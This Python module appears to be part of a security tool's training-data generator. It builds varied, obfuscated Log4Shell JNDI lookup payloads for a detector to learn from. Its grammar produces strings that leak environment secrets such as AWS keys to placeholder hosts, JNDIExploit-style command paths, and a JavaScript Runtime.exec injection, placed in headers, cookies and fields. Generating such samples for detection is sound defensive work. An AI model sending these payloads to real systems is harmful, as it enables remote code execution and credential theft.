"""JNDI lookups in logged text, plain and hidden in nested lookups and odd encodings."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.attacks.style import mixed_case, percent
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_LOWER = "abcdefghijklmnopqrstuvwxyz"


def _hidden_letter(rng: Random, char: str) -> str:
    form = int(rng.random() * 10)
    if form == 0:
        return f"${{lower:{char.upper() if rng.random() < 0.3 else char}}}"
    if form == 1:
        return f"${{upper:{char}}}"
    if form == 2:
        return f"${{::-{char}}}"
    if form == 3:
        return f"${{:-{char}}}"
    if form == 4:
        return f"${{env:{draw(rng, _LOWER, 1, 6)}:-{char}}}"
    if form == 5:
        return f"${{{draw(rng, _LOWER, 1, 5)}:{draw(rng, _LOWER, 0, 4)}:-{char}}}"
    if form == 6:
        return f"${{sys:{draw(rng, _LOWER, 1, 6)}:-{char}}}"
    if form == 7:
        return f"${{date:'{char}'}}"
    if form == 8:
        return f"${{lower:${{upper:{char}}}}}"
    return f"${{env:ENV_NAME:-{char}}}"


def hidden(rng: Random, word: str) -> str:
    """``word`` with some letters (or groups of them) behind lookups that give them back."""
    share = (0.25, 0.6, 1.0)[int(rng.random() * 3)]
    return "".join([_hidden_letter(rng, char) if rng.random() < share else char for char in word])


def jndi_word(rng: Random) -> str:
    """The word ``jndi``: plain, in odd case, or hidden."""
    roll = rng.random()
    if roll < 0.45:
        return "jndi"
    if roll < 0.5:
        return mixed_case(rng, "jndi")
    if roll < 0.55:
        return ("jnd${upper:ı}", "jn${env::-}di", "j${k8s:k5:-ND}i", "jn${lower:d}i", "j${}ndi",
                "\\u006a\\u006edi", "jnd${sys:i:-i}", "${lower:jnd}i", "${lower:jndi}")[
            int(rng.random() * 9)
        ]  # fmt: skip
    return hidden(rng, "jndi")


def protocol(rng: Random) -> str:
    """A protocol of the lookup, plain or hidden."""
    name = ("ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "corba", "nis", "nds", "http")[
        int(rng.random() * 11)
    ]
    return name if rng.random() < 0.6 else hidden(rng, name)


_G = Grammar(
    r"""
var = hostName¦java:version¦java:os¦env:AWS_SECRET_ACCESS_KEY¦env:USER¦sys:user.name¦env:HOSTNAME¦sys:java.version¦ctx:loginId¦env:AWS_ACCESS_KEY_ID¦sys:os.name¦env:JAVA_VERSION¦bundle:application:spring.datasource.password¦date:YYYY¦docker:containerId¦k8s:podName¦main:0¦web:rootDir¦sys:file.separator¦log4j:configLocation¦event:Message¦env:PATH
target:
  4×‹hostport›/‹az›
  2×‹host›
  2×${‹var›}.‹host›
  ${hostName}.‹az›.‹host›
  ${:-‹#100-999›}${:-‹#100-999›}.${hostName}.‹az›.‹host›
  127.0.0.1#‹host›/‹az›
  127.0.0.1#.${‹var›}.‹host›/‹az›
  ‹hostport›/Basic/Command/Base64/‹b64›
  ‹hostport›/‹TomcatBypass¦GroovyBypass¦Basic¦Deserialization/CommonsCollectionsK1›/Command/‹ucmd0›
  ‹hostport›/${‹var›}
  ‹ip›:‹port›/Exploit
  ‹host›:‹port›/o=reference
  ‹host›/${‹var›}/${‹var›}
  [‹hexrun›::1]:1389/a
  ‹user›:‹rnd›@‹host›/a
sl:
  8×//
  ${::-/}${::-/}
  ${env:‹az›:-/}/
  \/\/
  /
  ${lower:/}${lower:/}
  ////
  ${sys:file.separator}/
colon:
  8×:
  ${::-:}
  ${env:‹az›:-:}
  ${lower:‹semi›}
  :‹sp›
semi = :
open:
  8×${
  $%7B
  %24%7B
  %24{
  \u0024{
  $\{
  ${‹sp›
  \x24\x7b
  $${
close:
  8×}
  %7D
  }}
  \}
  ‹e›
core:
  8×‹open›‹jndi›‹colon›‹proto›‹colon›‹sl›‹target›‹close›
  ${‹jndi›:‹proto›:${lower:/}/‹target›}
  ${${::-j}${::-n}${::-d}${::-i}:‹proto›://‹target›}
  ${${lower:${lower:jndi}}:${lower:‹proto›}://‹target›}
  ${${env:‹az›:-j}ndi${env:‹az›:-:}‹proto›${env:‹az›:-:}//‹target›}
  ${jndi:${lower:l}${lower:d}a${lower:p}://‹target›}
  ${jndi:‹proto›://‹target›
  ${‹jndi›:‹proto›:${::-/}/‹target›}
  ${${upper:jndi}:${upper:‹proto›}://‹target›}
  ${base64:JHtqbmRp‹b64›}
  ${${base64:am5kaTpsZGFwOi8v}‹target›}
  ${script:javascript:java.lang.Runtime.getRuntime().exec('‹ucmd0›')}
  ${${::-${::-$${::-j}}}}
  ${::-${::-$${::-$‹c›}}}
  ${‹var›}
  ${env:‹AZ6›:-${jndi:‹proto›://‹target›}}
  ${jndi:dns://‹target›}
  ${date:MM-dd-yyyy${jndi:‹proto›://‹target›}}
  service:jmx:rmi:///jndi/‹proto›://‹target›
  ${ctx:${jndi:‹proto›://‹target›}}
  ‹jndi›:‹proto›://‹target›
  ${jndi:‹proto›:‹sl›‹target›}
  ${jndi:${env:‹AZ6›:-‹proto›}://‹target›}
  {{${jndi:‹proto›://‹target›}}}
payload:
  8×‹core›
  ‹pre›‹core›
  ‹pre›‹core›‹sp›‹word›
  "‹core›"
  '‹core›
  Mozilla/5.0 ‹core›
  ‹az›=‹core›
  t('‹core›')
  ‹core›‹core›
  Basic ‹core›
  {"‹az›":"‹core›"}
  ‹user›=‹core›; path=/
  Digest username="‹core›", realm="‹az›"
  http://‹site›/‹core›
""",
    PARTS,
    {"jndi": jndi_word, "proto": protocol},
)


def _written(rng: Random, text: str) -> str:
    roll = rng.random()
    if roll < 0.9:
        return text
    if roll < 0.95:
        return percent(text)
    return mixed_case(rng, text) if roll < 0.98 else text.replace("{", "\\u007b")


KINDS = (
    AttackKind(
        "log4shell",
        Category.LOG4SHELL,
        _G.maker("payload", _written),
        4.0,
        (VALUE, HEADER, COOKIE, NAME, PATH),
    ),
)
